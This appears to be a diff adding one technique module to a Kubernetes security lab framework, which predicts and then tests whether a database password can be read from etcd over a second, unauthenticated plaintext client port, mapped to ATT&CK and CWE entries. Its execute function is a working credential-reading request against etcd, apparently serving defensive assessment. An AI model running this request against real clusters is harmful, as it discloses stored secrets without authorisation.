@@ -1,0 +1,107 @@
+"""Read a secret out of etcd by a second port, in plaintext beside the one with mutual TLS.
+
+Such a port is opened for a monitoring or a debugging session, and stays. Who checks etcd's
+certificate and the demand for clients' finds both in order: they hold for the port with TLS.
+"""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeError
+from labkit.model import View
+from labkit.techniques._ask import first_refusal
+from labkit.techniques._base import (
+    NETWORK,
+    POD,
+    SECRETS,
+    USER_ON_WORKER,
+    Prediction,
+    Technique,
+)
+from labkit.techniques._etcd import API, NO_USER, as_apiserver, decode, encode, keeps_plaintext
+from labkit.techniques._reach import request
+from labkit.techniques._secret import true_secret
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+WANTED = ("shop", "db-credentials", "password")
+KEY = "/registry/secrets/shop/db-credentials"
+#: Where it is looked for, whether or not anything listens there.
+SERVER, PORT = "etcd1", 2378
+CHANNEL = f"anyone@network -> etcd@{SERVER}:{PORT}"
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: whether it is there, whether etcd has users, what it keeps."""
+    found = view.channels(CHANNEL)
+    if not found:
+        return Prediction(False, tuple(_listens(view.env)))
+    channel = found[0]
+    reached = first_refusal(
+        (channel.client_authentication, ("none",)), (channel.authorization, ("allow-all",))
+    )
+    return keeps_plaintext(view) if reached.succeeds else reached
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Ask the second port for a secret, over plain HTTP."""
+    secret = true_secret(lab, *WANTED)
+    body = f'{{"key": "{encode(KEY.encode())}"}}'.encode()
+    url = f"http://{SERVER}:{PORT}{API}/range"
+    answer = request(lab, url, foothold=foothold, body=body)
+    evidence = [f"asked {SERVER}:{PORT} for {KEY}, without a credential and without TLS"]
+    reason = answer.refusal
+    if not answer.refusal:
+        value = b"".join(decode(answer))
+        if secret.found_in(value):
+            evidence.append(f"read: {secret.proof}")
+            reason = f"HTTP {answer.status}, the second port asks nobody who calls"
+            return Verdict(TECHNIQUE.name, lab.mode, foothold, True, reason, tuple(evidence))
+        if not value.startswith(b"k8s:enc:"):
+            raise ProbeError(f"{SERVER}:{PORT} answered, but not with {secret}")
+        reason = "the value is a ciphertext"
+    elif NO_USER.encode() in answer.body:
+        reason = f"etcd: {NO_USER}"
+    elif answer.refusal != "connection refused":
+        raise ProbeError(f"{SERVER}:{PORT}: {answer.refusal} says nothing")
+    if as_apiserver(lab, "get", KEY, "--keys-only").split() != [KEY]:
+        raise ProbeError(f"the apiserver does not get {KEY} from etcd either")
+    control = "on port 2379 the apiserver gets the key"
+    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, tuple(evidence), control)
+
+
+def _listens(env: Environment) -> list[str]:
+    return [f"{what}: {value}: {read_in}" for what, value, read_in in _settings(env)]
+
+
+def _settings(env: Environment) -> list[Setting]:
+    """Return where etcd listens for clients."""
+    found = env.component(f"etcd@{SERVER}").setting("listen-client-urls")
+    return [("where etcd listens", found.value, str(found.source))]
+
+
+TECHNIQUE = Technique(
+    name="etcd-second-listener",
+    title="Read a secret out of etcd by a second port without TLS",
+    footholds=(NETWORK, USER_ON_WORKER, POD),
+    grants=(SECRETS,),
+    about="* -> etcd@*:237?",
+    properties=("encryption", "client_authentication", "authorization"),
+    attack=("T1046", "T1552.007"),
+    stride=("information disclosure",),
+    cwe=("CWE-306", "CWE-319", "CWE-1327"),
+    sources=(
+        "https://etcd.io/docs/latest/op-guide/configuration/",
+        "https://etcd.io/docs/latest/op-guide/security/",
+        "https://attack.mitre.org/techniques/T1552/007/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
